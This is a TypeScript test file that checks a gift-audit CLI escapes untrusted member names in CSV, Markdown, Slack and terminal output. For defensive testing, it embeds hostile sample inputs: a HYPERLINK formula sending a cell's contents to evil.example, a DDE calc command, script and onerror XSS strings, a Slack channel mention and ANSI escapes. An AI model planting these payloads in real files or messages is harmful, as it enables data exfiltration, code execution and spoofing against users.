/**
 * Names from Sendoso are data in every report: a member named =HYPERLINK(…) is not a formula in
 * the CSV, <script> is not HTML in the Markdown (nor in the scheduled report file), <!channel> is
 * not a mention in Slack, and an escape sequence does not reach the terminal.
 */
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvCell, markdownText, slackText, terminalText } from '../../src/triggers/escape.js';
import { runBlocks } from '../../src/triggers/slack/index.js';
import { BIN, cli, tempHome } from '../support/cli.js';

const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1)',
  cmd: "+cmd|' /C calc'!A0",
  script: '<script>alert(1)</script>',
  mention: '<!channel> <https://evil.example|Click>',
  ansi: 'Tom\u001b[2J\u001b[31mBecker',
};

/** The default seed with three New Hires Q3 members renamed. */
function hostileSeed(home: string): string {
  const seed = JSON.parse(spawnSync(process.execPath, [BIN, 'sandbox', '--print-seed'], { encoding: 'utf8' }).stdout);
  const rename: Record<string, string> = { Priya: HOSTILE.hyperlink, Marcus: HOSTILE.cmd, Elena: HOSTILE.script, Tom: HOSTILE.ansi };
  for (const user of seed.users) {
    if (rename[user.firstName]) {
      user.firstName = rename[user.firstName];
      user.lastName = '';
    }
  }
  const path = join(home, 'seed.json');
  writeFileSync(path, JSON.stringify(seed));
  return path;
}

describe('audit reports from the CLI', () => {
  it('csv neutralises formulas and quotes every cell; markdown escapes HTML; the table shows no control characters', async () => {
    const home = tempHome();
    const env = { GIFTGUARD_HOME: home, GIFTGUARD_SANDBOX_SEED: hostileSeed(tempHome()) };
    const args = ['run', 'audit', '--group', 'New Hires Q3', '--campaign', 'Welcome Swag Box'];
    const csv = await cli(env, ...args, '--format', 'csv');
    expect(csv.code, csv.err).toBe(0);
    const lines = csv.out.trim().split('\n');
    expect(lines[0]).toBe('name,email,gifted,status,tracking,date,stuck,fix');
    expect(csv.out).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1)"`);
    expect(csv.out).toContain(`"'+cmd|' /C calc'!A0"`);
    // No cell starts with a formula character once its quotes are taken off.
    for (const line of lines.slice(1)) for (const cell of line.match(/"(?:[^"]|"")*"/g)!) expect(cell.slice(1)).not.toMatch(/^[=+\-@\t\r]/);

    const markdown = await cli(env, ...args, '--format', 'markdown');
    expect(markdown.out).not.toContain('<script>');
    expect(markdown.out).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');

    const table = await cli(env, ...args);
    expect(table.out).not.toContain('\u001b');
    expect(table.out).toContain('Tom\ufffd[2J\ufffd[31mBecker');
  });
});

describe('escaping rules', () => {
  it('csv and markdown carry no control characters or line breaks', () => {
    expect(csvCell('Tom\u001b[31mred\r\nBecker')).toBe('"Tom\ufffd[31mred Becker"');
    expect(markdownText('Tom\u001b[31mred')).toBe('Tom\ufffd\\[31mred');
  });

  it('csv: OWASP formula characters get a leading quote; quotes are doubled', () => {
    for (const start of ['=', '+', '-', '@', '\t']) expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
    expect(csvCell('\r1+1')).toBe('" 1+1"'); // a carriage return is a line break, made a space
    expect(csvCell('Ana "the rep"')).toBe('"Ana ""the rep"""');
    expect(csvCell('plain')).toBe('"plain"');
  });

  it('markdown: HTML becomes entities, links and emphasis are text, entities are not broken', () => {
    expect(markdownText('<img src=x onerror=alert(1)>')).toBe('&lt;img src=x onerror=alert(1)&gt;');
    // Without its brackets a link is only text; an image too.
    expect(markdownText('[click](javascript:alert(1)) ![x](http://t/p.png) *bold* `code` it\'s')).toBe('\\[click\\](javascript:alert(1)) !\\[x\\](http://t/p.png) \\*bold\\* \\`code\\` it&#39;s');
    expect(markdownText('a|b\nc')).toBe('a\\|b c');
    // A line break in a name cannot start a heading or a code block.
    expect(markdownText('Becker\n\n# APPROVED: send 10k\n    code')).toBe('Becker  # APPROVED: send 10k     code');
  });

  it('slack and terminal', () => {
    expect(slackText(HOSTILE.mention)).toBe('&lt;!channel&gt; &lt;https://evil.example|Click&gt;');
    expect(terminalText(HOSTILE.ansi)).not.toContain('\u001b');
  });

  it('a Slack run message shows hostile member names as text', () => {
    const message = runBlocks({
      id: 'run_1',
      workflow: 'audit',
      status: 'done',
      summary: `${HOSTILE.mention} audited`,
      output: { lines: [{ name: HOSTILE.mention, email: 'x@example.com', gifted: false }] },
    } as never);
    const text = JSON.stringify(message.blocks);
    expect(text).not.toContain('<!channel>');
    expect(text).not.toContain('<https://evil');
    expect(text).toContain('&lt;!channel&gt;');
  });
});
